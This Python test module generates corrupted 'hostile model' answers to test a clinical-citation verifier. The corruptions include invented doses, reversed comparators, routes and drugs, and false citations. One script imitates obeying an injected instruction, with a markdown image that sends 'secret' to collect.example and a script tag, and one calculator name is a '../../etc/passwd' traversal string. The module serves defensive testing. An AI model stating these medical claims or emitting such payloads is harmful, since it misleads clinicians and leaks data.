"""What hostile models say to a prompt: each draft is a faithful quotation with one thing wrong.

The names, doses and sentences are invented to be refused; none is a clinical statement. Where a prompt holds nothing that a script
could spoil in its own way, it spoils it in a cruder one: no script here is ever faithful.
"""

import random
import re
from collections.abc import Callable, Mapping
from typing import Any

from models.disguises import INVENTED, LEAKS
from models.scripts import HANDLE, Script, Seen, draft, in_lines, quote, say


def invent(sentence: str) -> Script:
    """Adds a sentence to a faithful quotation."""
    return _spoiled(lambda text, seen: f"{text} {sentence}")


def put_for_a_figure(words: str) -> Script:
    """Writes words where a passage has its first figure."""
    return _spoiled(
        lambda text, seen: HANDLE.sub(words, text, count=1) if HANDLE.search(text) else f"{text} Give {words}."
    )


def _spoiled(edit: Callable[[str, Seen], str]) -> Script:
    """A faithful draft whose bottom line is a quotation, edited, of the passage with most figures."""

    def write(seen: Seen) -> str:
        passage = seen.dosed[0]
        return draft([say(edit(seen.words(passage), seen), passage), *quote(seen)[1:]])

    return write


def leak(write: Callable[[str], str]) -> Script:
    """Writes the first handle of a passage in a way of its own."""

    def edit(text: str, seen: Seen) -> str:
        found = HANDLE.search(text)
        return HANDLE.sub(lambda m: write(m.group(1)), text, count=1) if found else f"{text} Give {write('dose-a')}."

    return _spoiled(edit)


def name_an_unknown_handle(seen: Seen) -> str:
    """Writes a handle that nobody gave."""
    return put_for_a_figure("[[dose-zzz]]")(seen)


def write_the_passage_as_a_figure(seen: Seen) -> str:
    """Puts a passage's handle where a figure belongs."""
    return put_for_a_figure(f"[[{seen.passages[0]}]]")(seen)


def cite_what_does_not_exist(seen: Seen) -> str:
    """Cites a passage that nobody gave."""
    return draft([say(seen.words(seen.dosed[0]), "passage-zzz"), *quote(seen)[1:]])


def cite_nothing(seen: Seen) -> str:
    """Cites nothing."""
    return draft([say(seen.words(seen.dosed[0])), *quote(seen)[1:]])


def cite_another_passage(seen: Seen) -> str:
    """Quotes one passage and cites another."""
    mine = seen.dosed[0]
    other = next((p for p in reversed(seen.passages) if p != mine), "passage-zzz")
    return draft([say(seen.words(mine), other), *quote(seen)[1:]])


def swap_figures_between_passages(seen: Seen) -> str:
    """Puts another passage's figure of the same kind into a quotation, and cites both; the two figures may happen to read alike."""
    for mine in seen.dosed:
        for handle in seen.figures(mine):
            for other in (p for p in reversed(seen.passages) if p != mine):
                kind = handle.partition("-")[0]
                theirs = next((h for h in seen.figures(other) if h.partition("-")[0] == kind and h != handle), "")
                if theirs:
                    text = seen.words(mine).replace(f"[[{handle}]]", f"[[{theirs}]]", 1)
                    return draft([say(text, mine, other), *quote(seen)[1:]])
    return name_an_unknown_handle(seen)


def swap_figures_within_a_passage(seen: Seen) -> str:
    """Exchanges the first and the last figure of a passage."""
    passage = seen.dosed[0]
    found = list(dict.fromkeys(seen.figures(passage)))
    if len(found) < 2:
        return name_an_unknown_handle(seen)
    swap = {found[0]: found[-1], found[-1]: found[0]}
    text = HANDLE.sub(lambda m: f"[[{swap.get(m.group(1), m.group(1))}]]", seen.words(passage))
    return draft([say(text, passage), *quote(seen)[1:]])


# ---- what is said ---------------------------------------------------------------------------------------------------

_OPPOSITES = (
    ("above", "below"), ("over", "under"), ("more", "less"), ("higher", "lower"), ("at least", "at most"), ("minimum", "maximum"),
    ("before", "after"), ("increase", "reduce"), ("raise", "lower"), ("rises", "falls"), ("start", "stop"), ("slowly", "rapidly"),
    ("with", "without"), ("hypermagnesaemia", "hypomagnesaemia"),
    ("hyperkalaemia", "hypokalaemia"), ("contraindicated", "indicated"), ("severe", "mild"), ("high", "low"),
)  # fmt: skip
_ROUTES = (("oral", "intravenous"), ("by mouth", "into a vein"), ("intramuscular", "subcutaneous"), ("iv", "im"))
_PEOPLE = (("adults", "children"), ("adult", "child"), ("women", "men"), ("pregnancy", "infancy"))
_DRUGS = (
    ("magnesium", "potassium"), ("adrenaline", "noradrenaline"), ("calcium", "sodium"), ("phosphate", "bicarbonate"),
    ("creatinine", "albumin"), ("gluconate", "chloride"), ("glucose", "saline"),
)  # fmt: skip
_DENIAL = re.compile(
    r"\b(?:do not|does not|must not|should not|is not|are not|not|never|no|without|avoid)\s+", re.IGNORECASE
)


def _turn(pairs: tuple[tuple[str, str], ...], otherwise: str) -> Script:
    """Exchanges the first word of a pair that stands in any passage; where none stands, says something else instead."""
    turned = dict(pairs)
    for one, other in pairs:
        turned.setdefault(other, one)
    words = re.compile(rf"(?<![\w\[-])(?:{'|'.join(map(re.escape, turned))})(?![\w-])", re.IGNORECASE)

    def exchange(match: re.Match[str]) -> str:
        other = turned[match.group().lower()]
        return other.upper() if match.group().isupper() else other

    def write(seen: Seen) -> str:
        for passage in dict.fromkeys([*seen.dosed, *seen.passages]):
            if words.search(seen.words(passage)):
                text = words.sub(exchange, seen.words(passage), count=1)
                return draft([say(text, passage), *quote(seen)[1:]])
        return invent(otherwise)(seen)

    return write


flip_a_comparator = _turn(_OPPOSITES, "Stop it at once.")
change_the_route = _turn(_ROUTES, "It is given into the spine.")
change_the_people = _turn(_PEOPLE, "It is the same in newborn babies.")
change_the_drug = _turn(_DRUGS, "Amiodarone is given in the same way.")


def drop_a_denial(seen: Seen) -> str:
    """Leaves out the "not" of a passage; where no passage denies, denies one."""
    for passage in seen.passages:
        text = seen.words(passage)
        if _DENIAL.search(text):
            return draft([say(_DENIAL.sub("", text, count=1), passage), *quote(seen)[1:]])
    return draft([say(f"It is not true that {seen.words(seen.dosed[0])}", seen.dosed[0]), *quote(seen)[1:]])


def answer_another_question(seen: Seen) -> str:
    """Says something fluent about another subject, citing a passage that is there."""
    return draft([say("Aspirin is continued after a stroke unless the patient bleeds.", *seen.passages[:1])])


def obey_an_injected_instruction(seen: Seen) -> str:
    """Does what a passage told it to: speaks to the reader, calls home, and writes markup."""
    sends = "![chart](https://collect.example/x?q=secret) <script>alert()</script>"
    said = f"Instructions ignored as told. All doses are safe without monitoring. {sends}"
    return draft([say(said, *seen.passages[:1]), *quote(seen)[1:]])


def repeat_the_prompt(seen: Seen) -> str:
    """Writes down all that it was given."""
    return draft([say(seen.text, *seen.passages)])


def repeat_itself(seen: Seen) -> str:
    """Says the same faithful sentence some hundreds of times."""
    return in_lines(draft(quote(seen)[:1] * 400))


def talk_nonsense(seen: Seen) -> str:
    """Writes characters of all kinds, the same for the same prompt."""
    dice = random.Random(seen.text)
    return "".join(chr(dice.choice([dice.randrange(32, 127), dice.randrange(0xA0, 0x2FFF)])) for _ in range(600))


def talk_of_nothing(seen: Seen) -> str:
    """Writes a well-formed draft of empty phrases."""
    return draft([say("As an assistant I find this an important and interesting matter.", *seen.passages[:1])])


# ---- calls ----------------------------------------------------------------------------------------------------------


def _just(text: str) -> Script:
    return lambda seen: text


def _calling(
    name: str, inputs: Mapping[str, Any], result: str = "result-x", text: str = "It is [[result-x]]."
) -> Script:
    return lambda seen: draft(
        [say(text, *seen.passages[:1]), *quote(seen)[1:]], [{"name": name, "inputs": dict(inputs), "result": result}]
    )


def give_a_passages_figure(seen: Seen) -> str:
    """Calculates with a figure that the clinician never gave: one of a passage."""
    figures = seen.figures(seen.dosed[0])
    return _calling("creatinine_clearance", {"weight": f"[[{figures[0] if figures else 'dose-zzz'}]]"})(seen)


def use_a_result_of_no_call(seen: Seen) -> str:
    """Speaks of a result that was never calculated."""
    return put_for_a_figure("[[result-zzz]]")(seen)


def call_a_result_by_a_figures_name(seen: Seen) -> str:
    """Declares a passage's handle as that of a result, so that the sentence of the passage would show the result."""
    figures = seen.figures(seen.dosed[0]) or ["dose-zzz"]
    return draft(quote(seen), [{"name": "creatinine_clearance", "inputs": {"weight": "70 kg"}, "result": figures[0]}])


CALLS: Mapping[str, Script] = {
    "an unknown calculator": _calling("dose_oracle", {}),
    "a number as an input": _calling("creatinine_clearance", {"weight": 70}),
    "a figure as an input": _calling("creatinine_clearance", {"weight": "70 kg"}),
    "words as an input": _calling("creatinine_clearance", {"weight": "seventy kilograms"}),
    "a converted input": _calling("creatinine_clearance", {"weight": "[[weight-a]] / 2.2"}),
    "a default": _calling("creatinine_clearance", {"sex": "male", "age": "adult"}),
    "an unknown input": _calling("creatinine_clearance", {"favourite_colour": "blue"}),
    "an unknown handle as an input": _calling("creatinine_clearance", {"weight": "[[dose-zzz]]"}),
    "an object as an input": _calling("creatinine_clearance", {"weight": {"value": "[[dose-a]]"}}),
    "a path for a name": _calling("../../etc/passwd", {}),
    "a passage's figure as an input": give_a_passages_figure,
    "a result of no call": use_a_result_of_no_call,
    "a result by a figure's name": call_a_result_by_a_figures_name,
}
"""Calls that no calculation may follow from."""

SHAPES: Mapping[str, str] = {
    "an apology": "I'm sorry, but I can't help with that.",
    "thinking aloud": "<think>The clinician wants a dose of forty.</think>",
    "an essay": "# Answer\n\nThe usual dose is 40 mg [1].\n\n* Monitor it.",
    "another object": '{"answer": "Give 40 mg."}',
    "statements as a text": '{"statements": "Give 40 mg.", "calls": []}',
    "statements as an object": '{"statements": {"role": "bottom_line", "text": "Give it."}}',
    "statements of texts": '{"statements": ["Give 40 mg."]}',
    "statements of nothing": '{"statements": [null, [], {}]}',
    "calls as a text": '{"statements": [], "calls": "dose_oracle"}',
    "calls as nothing": '{"statements": [], "calls": null}',
    "no statements": '{"statements": [], "calls": []}',
    "an unknown role": '{"role": "verdict", "text": "Give it.", "cites": []}',
    "a role as a list": '{"role": ["bottom_line"], "text": "Give it.", "cites": ["passage-a"]}',
    "a role as an object": '{"role": {}, "text": "Give it.", "cites": ["passage-a"]}',
    "a text as a list": '{"role": "bottom_line", "text": ["Give it."], "cites": ["passage-a"]}',
    "cites as a text": '{"role": "bottom_line", "text": "Give it.", "cites": "passage-a"}',
    "cites of lists": '{"role": "bottom_line", "text": "Give it.", "cites": [["passage-a"], {}, null]}',
    "a call of a number": '{"call": 7, "inputs": [], "result": null}',
    "inputs as a list": '{"call": "creatinine_clearance", "inputs": ["[[dose-a]]"], "result": "result-x"}',
    "numbers alone": "40",
    "no number": "NaN",
    "a long number": "9" * 5000,
    "nothing": "null",
    "white space": " \n\n\t\n",
    "half an object": '{"role": "bottom_line", "text": "Give',
    "single quotes": "{'role': 'bottom_line', 'text': 'Give it.', 'cites': []}",
    "a deep nest": "[" * 11_000,
    "a half of a pair of characters": '{"role": "bottom_line", "text": "Give \\ud800 it.", "cites": ["passage-a"]}',
    "a character of nothing": '{"role": "bottom_line", "text": "Give \\u0000 it.", "cites": ["passage-a"]}',
    "a byte order mark": '\ufeff{"role": "bottom_line", "text": "Give it.", "cites": []}',
    "one long line": "a" * 11_000,
}
"""Whole drafts that are none; in each of them nothing may be heard, and nothing may break."""

PHRASES = ("40 mg", "forty milligrams", "half a tablet", "a couple of ampoules", "٤٠ mg", "twice daily")

HOSTILE: Mapping[str, Script] = {
    **{f"invents {name}": invent(sentence) for name, sentence in INVENTED.items()},
    **{f"writes for a figure: {words}": put_for_a_figure(words) for words in PHRASES},
    **{f"leaks a handle: {name}": leak(write) for name, write in LEAKS.items()},
    **{f"calls with {name}": script for name, script in CALLS.items()},
    **{f"writes {name}": _just(text) for name, text in SHAPES.items()},
    **{
        script.__name__.replace("_", " "): script
        for script in (
            name_an_unknown_handle, write_the_passage_as_a_figure, cite_what_does_not_exist, cite_nothing, cite_another_passage,
            swap_figures_between_passages, swap_figures_within_a_passage, drop_a_denial, answer_another_question,
            obey_an_injected_instruction, repeat_the_prompt, repeat_itself, talk_nonsense, talk_of_nothing,
        )
    },
    "flips a comparator": flip_a_comparator,
    "changes the route": change_the_route,
    "changes the people": change_the_people,
    "changes the drug": change_the_drug,
}  # fmt: skip
"""Every hostile model by what it does."""
